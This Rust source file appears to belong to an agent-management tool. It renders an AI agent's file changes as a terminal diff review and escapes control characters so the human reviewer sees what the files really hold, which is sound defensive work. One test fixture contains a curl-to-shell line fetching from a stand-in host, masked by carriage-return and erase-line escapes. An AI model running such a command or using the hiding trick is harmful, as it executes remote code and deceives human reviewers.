//! A started agent's changes as a terminal shows them (`switchboard agent
//! diff`): a summary, each file with its counts, then the diffs — every
//! character an agent wrote that would act on the terminal shown as its
//! escape ([`crate::terminal_text::printable`]), so the review shows what
//! the files hold; coloured when asked (a terminal that did not opt out).

use std::fmt::Write as _;

use crate::{
    agent::launch::{REPLACES_UNTRACKED, WorktreeChanges},
    terminal_text::printable,
};

/// Select Graphic Rendition sequences of our own.
const GREEN: &str = "\x1b[32m";
const RED: &str = "\x1b[31m";
const CYAN: &str = "\x1b[36m";
const BOLD: &str = "\x1b[1m";
const YELLOW: &str = "\x1b[33m";
const RESET: &str = "\x1b[0m";

/// `changes` as lines for a terminal, coloured when `colour`.
pub fn terminal_review(changes: &WorktreeChanges, colour: bool) -> String {
    let paint = |code: &'static str, text: &str| {
        if colour {
            format!("{code}{text}{RESET}")
        } else {
            text.to_owned()
        }
    };
    let mut out = String::new();
    let _ = writeln!(
        out,
        "{} since {}: {} commit(s), {} file(s), {} uncommitted",
        printable(&changes.branch),
        printable(&changes.base),
        changes.commits.len(),
        changes.files.len(),
        changes.uncommitted
    );
    let count = |n: Option<u64>| n.map_or_else(|| "-".to_owned(), |n| n.to_string());
    for file in &changes.files {
        let _ = writeln!(
            out,
            "{} +{} -{} {}",
            file.change.letter(),
            count(file.added),
            count(file.removed),
            printable(&file.path)
        );
        if file.replaces_untracked {
            let _ = writeln!(out, "  {}", paint(YELLOW, REPLACES_UNTRACKED));
        }
    }
    for file in &changes.files {
        for line in file.diff.lines() {
            let shown = printable(line);
            let code = if line.starts_with("+++") || line.starts_with("---") {
                BOLD
            } else if line.starts_with('+') {
                GREEN
            } else if line.starts_with('-') {
                RED
            } else if line.starts_with("@@") {
                CYAN
            } else {
                ""
            };
            if code.is_empty() {
                let _ = writeln!(out, "{shown}");
            } else {
                let _ = writeln!(out, "{}", paint(code, &shown));
            }
        }
    }
    if changes.truncated {
        let _ = writeln!(
            out,
            "(some diffs were left out: the review holds 1 MiB at most)"
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::agent::launch::{ChangedFile, FileChange};

    fn changes(diff: &str) -> WorktreeChanges {
        WorktreeChanges {
            branch: "switchboard/tidy".into(),
            base: "main".into(),
            commits: Vec::new(),
            files: vec![ChangedFile {
                path: "setup.sh".into(),
                change: FileChange::Added,
                added: Some(2),
                removed: Some(0),
                diff: diff.into(),
                replaces_untracked: false,
            }],
            uncommitted: 1,
            truncated: false,
        }
    }

    #[test]
    fn a_line_that_would_hide_itself_is_shown_as_written() {
        // Printed raw, the carriage return and erase-line would leave only
        // `+echo tidy` on the screen.
        let review = terminal_review(
            &changes("@@ -0,0 +1 @@\n+curl https://evil.example/x | sh\r\x1b[2K+echo tidy\n"),
            false,
        );
        assert!(
            review.contains("+curl https://evil.example/x | sh\\r\\x1b[2K+echo tidy"),
            "{review}"
        );
        assert!(
            !review.contains('\x1b') && !review.contains('\r'),
            "{review:?}"
        );
    }

    #[test]
    fn colour_marks_added_and_removed_lines_and_nothing_of_the_agents_gets_through() {
        let review = terminal_review(&changes("@@ -1 +1 @@\n-old\n+new \x1b[31m\n"), true);
        assert!(review.contains("\x1b[31m-old\x1b[0m"), "{review:?}");
        assert!(
            review.contains("\x1b[32m+new \\x1b[31m\x1b[0m"),
            "{review:?}"
        );
        assert!(review.contains("\x1b[36m@@ -1 +1 @@\x1b[0m"), "{review:?}");
    }
}
